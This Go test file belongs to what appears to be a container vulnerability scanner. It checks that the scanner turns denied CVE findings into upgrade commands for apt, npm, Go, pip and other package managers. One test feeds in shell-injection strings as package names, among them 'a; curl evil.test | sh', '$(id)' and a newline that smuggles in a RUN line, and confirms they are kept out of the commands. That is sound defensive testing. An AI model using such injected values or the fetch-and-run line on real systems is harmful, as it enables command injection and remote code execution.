package remedy

import (
	"fmt"
	"math/rand/v2"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/vetoci/veto/engine"
	"github.com/vetoci/veto/engine/version"
)

func finding(ref, typ, ecosystem, name, installed, layer string, fixes ...string) engine.Finding {
	return engine.Finding{Kind: "vulnerability", ID: "CVE-" + ref, Ref: ref, Layer: engine.Maybe(layer), FixedVersions: fixes,
		Package: engine.FoundPackage{Name: name, Version: installed, Type: typ, Ecosystem: engine.Maybe(ecosystem), Binaries: []string{"lib" + name}}}
}

func denying(refs ...string) []engine.RuleResult {
	r := engine.RuleResult{ID: "vuln-fixable", Status: engine.StatusDeny}
	for _, ref := range refs {
		r.Results = append(r.Results, engine.Result{Msg: ref, Findings: []string{ref}})
	}
	return []engine.RuleResult{r}
}

func TestPlan(t *testing.T) {
	f := &engine.Facts{
		Layers: []engine.LayerInfo{{Index: 1, DiffID: "a"}, {Index: 2, DiffID: "b"}},
		Findings: []engine.Finding{
			finding("1", "deb", "Debian:12", "curl", "7.88.1-10", "a", "7.88.1-10+deb12u4"),
			finding("2", "deb", "Debian:12", "curl", "7.88.1-10", "a", "7.88.1-10+deb12u14"),
			finding("3", "deb", "Debian:12", "nofix", "1", "a"),
			finding("4", "npm", "npm", "lodash", "4.17.11", "b", "4.17.21", "3.10.2"),
			finding("5", "npm", "npm", "minimist", "1.2.0", "b", "0.2.1", "1.2.3", "1.2.6"),
			finding("6", "golang", "Go", "golang.org/x/net", "v0.7.0", "b", "0.17.0"),
			finding("7", "golang", "Go", "stdlib", "1.21.1", "b", "1.20.10", "1.21.3"),
			finding("8", "npm", "npm", "notdenied", "1.0.0", "b", "2.0.0"),
			finding("9", "pypi", "PyPI", "django", "3.2.4", "b", "3.2.25", "4.2.11"),
		},
		Packages: []engine.Package{{Type: "deb", Layer: "a", Source: engine.Source{Name: "curl"}}, {Type: "deb", Layer: "a", Source: engine.Source{Name: "nofix"}}},
	}
	got := map[string]string{}
	for _, c := range Plan(f, denying("1", "2", "3", "4", "5", "6", "7", "9")) {
		got[c.Kind] = fmt.Sprintf("%s %v: %s", c.Layer, c.Findings, c.Command)
	}
	want := map[string]string{
		"deb":    "a [1 2]: RUN apt-get update && apt-get install -y --only-upgrade libcurl",
		"npm":    "b [4 5]: npm install lodash@4.17.21 minimist@1.2.3",
		"golang": "b [6 7]: go get golang.org/x/net@v0.17.0; build with Go 1.21.3",
		"pypi":   "b [9]: pip install 'django>=3.2.25'",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// What is waived, or only warned of, needs no change.
func TestPlanLeavesWaivedAlone(t *testing.T) {
	f := &engine.Facts{Findings: []engine.Finding{finding("1", "npm", "npm", "a", "1.0.0", "b", "2.0.0")}}
	rules := denying("1")
	rules[0].Results[0].WaivedBy = "w1"
	if got := Plan(f, rules); len(got) != 0 {
		t.Errorf("a waived result: %+v", got)
	}
	rules = denying("1")
	rules[0].Status = engine.StatusWarn
	if got := Plan(f, rules); len(got) != 0 {
		t.Errorf("a warning: %+v", got)
	}
}

// Of a result's findings, those that are waived need no change, unless the rule takes no waivers.
func TestPlanLeavesWaivedFindingsAlone(t *testing.T) {
	f := &engine.Facts{Findings: []engine.Finding{finding("1", "npm", "npm", "a", "1.0.0", "b", "2.0.0"), finding("2", "npm", "npm", "c", "1.0.0", "b", "1.5.0")}}
	f.Findings[0].WaivedBy = "w1"
	for waivable, want := range map[bool]string{true: "npm install c@1.5.0", false: "npm install a@2.0.0 c@1.5.0"} {
		rules := []engine.RuleResult{{ID: "r", Status: engine.StatusDeny, Waivable: waivable, Results: []engine.Result{{Findings: []string{"1", "2"}}}}}
		if got := Plan(f, rules); len(got) != 1 || got[0].Command != want {
			t.Errorf("waivable %v: %+v, want %s", waivable, got, want)
		}
	}
}

// A command is there to be pasted: nothing from an image or an advisory gets into it that a shell would take for more than a word.
func TestPlanWritesPlainWords(t *testing.T) {
	for _, word := range []string{"a; curl evil.test | sh", "$(id)", "`id`", "a b", "a'b", "--unsafe-perm", "-g", "a\nRUN id", "a>b", "a&b", "", "\x1b[31m", "a\\b", "é", "~root", "a*", "{a,b}", "#a", "!1"} {
		bad := finding("2", "npm", "npm", word, "1.0.0", "b", "2.0.0")
		binary := finding("3", "deb", "Debian:12", "src", "1", "b", "2")
		binary.Package.Binaries = []string{"ok", word}
		f := &engine.Facts{Findings: []engine.Finding{finding("1", "npm", "npm", "@scope/good.js", "1.0.0", "b", "2.0.0"), bad, binary}}
		got := Plan(f, denying("1", "2", "3"))
		if len(got) != 1 || got[0].Command != "npm install @scope/good.js@2.0.0" || fmt.Sprint(got[0].Findings) != "[1]" {
			t.Errorf("%q: %+v", word, got)
		}
	}
	for _, word := range []string{"libstdc++6", "@types/node", "golang.org/x/net", "ruamel.yaml.clib", "2:8.39-15~deb12u1", "v1.2.3-0.20230101-abc+incompatible", "gopkg.in/yaml.v2", "_x"} {
		if !writable(&engine.Finding{Package: engine.FoundPackage{Name: word}}, word) {
			t.Errorf("%s is a good name", word)
		}
	}
}

// A package that is installed twice is asked for once, and a source package without known binaries by its own name.
func TestPlanNamesAPackageOnce(t *testing.T) {
	bare := finding("4", "deb", "Debian:12", "curl", "1", "b", "2")
	bare.Package.Binaries = nil
	f := &engine.Facts{
		Findings: []engine.Finding{
			finding("1", "golang", "Go", "golang.org/x/net", "v0.9.0", "b", "0.10.0"), finding("2", "golang", "Go", "golang.org/x/net", "v0.7.0", "b", "0.9.0"),
			finding("3", "golang", "Go", "stdlib", "1.9.1", "b", "1.10.0"), finding("5", "golang", "Go", "stdlib", "1.21.1", "b", "1.21.3"), bare,
		},
		Packages: []engine.Package{{Type: "deb", Layer: "b", Source: engine.Source{Name: "curl"}}, {Type: "deb", Layer: "b", Source: engine.Source{Name: "x"}}},
	}
	var got []string
	for _, c := range Plan(f, denying("1", "2", "3", "4", "5")) {
		got = append(got, fmt.Sprintf("%s (%d)", c.Command, len(c.Upgrades)))
	}
	want := []string{"go get golang.org/x/net@v0.10.0; build with Go 1.21.3 (4)", "RUN apt-get update && apt-get install -y --only-upgrade curl (1)"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// Every upgrade goes up, and reaches a fix of each finding that its change clears. The order of the findings changes nothing.
func TestPlanReachesWhatItClears(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	v := func() string { return fmt.Sprintf("%d.%d.%d", r.IntN(3), r.IntN(4), r.IntN(10)) }
	for range 300 {
		f := &engine.Facts{}
		var refs []string
		installed := map[string]string{}
		for i := range 1 + r.IntN(20) {
			name := string(rune('a' + r.IntN(4)))
			if installed[name] == "" {
				installed[name] = v()
			}
			var fixes []string
			for range r.IntN(3) {
				fixes = append(fixes, v())
			}
			refs = append(refs, fmt.Sprint(i))
			f.Findings = append(f.Findings, finding(fmt.Sprint(i), "npm", "npm", name, installed[name], "l", fixes...))
		}
		changes := Plan(f, denying(refs...))
		for _, c := range changes {
			to := map[string]string{}
			for _, u := range c.Upgrades {
				to[u.Package] = u.To
				if n, err := version.Compare("npm", u.To, u.From); err != nil || n <= 0 {
					t.Fatalf("%s goes from %s to %s (%v)", u.Package, u.From, u.To, err)
				}
			}
			for _, ref := range c.Findings {
				if !reaches(t, f, ref, to) {
					t.Fatalf("finding %s is not cleared by %+v", ref, c)
				}
			}
		}
		r.Shuffle(len(f.Findings), func(i, j int) { f.Findings[i], f.Findings[j] = f.Findings[j], f.Findings[i] })
		if diff := cmp.Diff(changes, Plan(f, denying(refs...))); diff != "" {
			t.Fatalf("another order, another plan (-want +got):\n%s", diff)
		}
	}
}

func reaches(t *testing.T, f *engine.Facts, ref string, to map[string]string) bool {
	t.Helper()
	for _, v := range f.Findings {
		for _, fix := range v.FixedVersions {
			up, err := version.Compare("npm", fix, v.Package.Version)
			if err != nil {
				t.Fatal(err)
			}
			if n, err := version.Compare("npm", to[v.Package.Name], fix); v.Ref == ref && up > 0 && err == nil && n >= 0 {
				return true
			}
		}
	}
	return false
}

func TestCommands(t *testing.T) {
	for _, c := range []struct{ typ, ecosystem, name, from, to, want string }{
		{"rpm", "AlmaLinux:9", "curl", "7.76.1-1.el9", "7.76.1-2.el9", "RUN dnf upgrade -y libcurl"},
		{"rpm", "openSUSE:Leap 15.5", "curl", "7.76.1-1", "7.76.1-2", "RUN zypper --non-interactive update libcurl"},
		{"rpm", "Photon OS:5.0", "curl", "7.76.1-1", "7.76.1-2", "RUN tdnf update -y libcurl"},
		{"gem", "RubyGems", "rack", "2.2.3", "2.2.4", "bundle update --conservative rack"},
		{"composer", "Packagist", "guzzlehttp/psr7", "1.8.3", "1.8.4", "composer require --with-all-dependencies 'guzzlehttp/psr7:^1.8.4'"},
		{"cargo", "crates.io", "time", "0.1.44", "0.2.23", "cargo update time --precise 0.2.23"},
		{"nuget", "NuGet", "Newtonsoft.Json", "12.0.3", "13.0.1", "dotnet add package Newtonsoft.Json --version 13.0.1"},
		{"maven", "Maven", "org.apache.logging.log4j:log4j-core", "2.14.1", "2.17.1", "mvn versions:use-dep-version -Dincludes=org.apache.logging.log4j:log4j-core -DdepVersion=2.17.1"},
		{"hex", "Hex", "plug", "1.0.0", "1.0.4", "mix deps.update plug"},
		{"pub", "Pub", "http", "0.13.0", "0.13.3", "dart pub upgrade http"},
		{"generic", "Bitnami", "redis", "6.2.0", "6.2.7", "upgrade redis to 6.2.7"},
	} {
		f := &engine.Facts{Findings: []engine.Finding{finding("1", c.typ, c.ecosystem, c.name, c.from, "a", c.to)},
			Packages: []engine.Package{{Type: c.typ, Layer: "a", Source: engine.Source{Name: c.name}}, {Type: c.typ, Layer: "a", Source: engine.Source{Name: "another"}}}}
		got := Plan(f, denying("1"))
		if len(got) != 1 || got[0].Command != c.want {
			t.Errorf("%s: %+v, want %s", c.typ, got, c.want)
		}
	}
}
